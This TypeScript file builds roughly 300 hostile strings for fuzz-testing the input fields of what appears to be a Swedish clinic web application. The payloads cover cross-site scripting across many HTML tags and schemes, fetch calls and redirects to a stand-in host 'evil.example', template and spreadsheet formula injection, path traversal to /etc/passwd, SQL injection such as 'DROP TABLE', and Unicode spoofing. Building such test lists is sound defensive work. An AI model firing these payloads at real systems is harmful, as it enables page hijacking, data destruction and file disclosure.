// Hostile strings: 300 of what somebody may write into a field to run in, break or disguise a page.

const TAGS = ['script', 'img', 'svg', 'iframe', 'object', 'a', 'form', 'style', 'base', 'meta', 'template', 'math']
const CALLS = [
  'alert(1)',
  'fetch("//evil.example")',
  'location="//evil.example"',
  'document.title="x"',
  'import("//x")',
]
const BREAKOUTS = ['"', "'", '">', "'>", '</title>', '</textarea>', '</script>', '-->', ']]>', '`', '&quot;>', '\\">']
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'data:text/html,',
  'vbscript:',
  'java\tscript:',
  '//evil.example/',
  'file:///',
]
const LETTERS: readonly (readonly [string, string])[] = [
  ['bidi override', 'Klinik \u202Egpj.exe\u202C'],
  ['bidi isolate', '\u2067Klinik\u2069 \u2066AB\u2069'],
  ['right to left', 'مركز صحي في أوبسالا'],
  ['hebrew', 'מרפאה באופסלה 12400'],
  ['homoglyph', 'Ехеmреlvård АВ'],
  ['full width', '＜script＞alert(1)＜/script＞'],
  ['zero width', 'Kli\u200Bnik\u200D\uFEFF'],
  ['combining', `Z${'\u0310\u0315\u0327'.repeat(40)}alg\u0321o`],
  ['emoji', '👩🏽‍⚕️🏥👨‍👩‍👧‍👦'],
  ['surrogate', 'Klinik \uD83D AB'],
  ['controls', 'Klinik\u0000\u0007\u001B[31m'],
  ['line signs', 'Klinik\u2028AB\u2029\u0085'],
  ['tall', 'ﷺ'.repeat(30)],
  ['wide', '𒐫'.repeat(40)],
  ['no break', 'Vårdcentral'.repeat(18)],
  ['spaces', `A${'\u00A0'.repeat(150)}B`],
]

const inTags = TAGS.flatMap(tag =>
  CALLS.map(call => `<${tag} src=x href="javascript:${call}" onload=${call} onerror='${call}'>${call}</${tag}>`),
)
const inBreakouts = BREAKOUTS.flatMap(sign => CALLS.map(call => `Klinik ${sign} onfocus=${call} autofocus x=${sign}`))
const inSchemes = SCHEMES.flatMap(scheme => CALLS.map(call => `${scheme}${call}`))
const inTemplates = CALLS.flatMap(call =>
  ['{{', '${', '<%=', '#{', '[[', '{%'].map(open => `Klinik ${open}${call}}} %> ]]`),
)
const inSheets = ['=', '+', '-', '@', '\t=', '\r=', ';='].flatMap(sign =>
  CALLS.map(call => `${sign}HYPERLINK("${call}")`),
)
const inLetters = LETTERS.flatMap(([, text]) => [text, `${text} <b>${text}</b>`])
const inHtmx = ['hx-get', 'hx-on:click', 'data-hx-post', 'hx-trigger', 'data-key'].flatMap(name =>
  CALLS.map(call => `<div ${name}="/logga-ut" hx-trigger="load" x='${call}'>Klinik</div>`),
)
const inPaths = ['../../../etc/passwd', '..%2f..%2f', 'C:\\x.exe', 'CON', '.htaccess', 'a'.repeat(240)].flatMap(path =>
  ['', '.pdf', '.html', '.svg'].map(end => `${path}${end}`),
)
const inSql = ["'; DROP TABLE cases; --", "' OR 1=1 --", '1; select pg_sleep(9)', '%_%', '\\x00'].flatMap(text =>
  ['', ' ', '"', 'å'].map(end => `${text}${end}`),
)

/** All of them, each once. */
export const HOSTILE: readonly string[] = [
  ...new Set([
    ...inTags,
    ...inBreakouts,
    ...inSchemes,
    ...inTemplates,
    ...inSheets,
    ...inLetters,
    ...inHtmx,
    ...inPaths,
    ...inSql,
  ]),
]
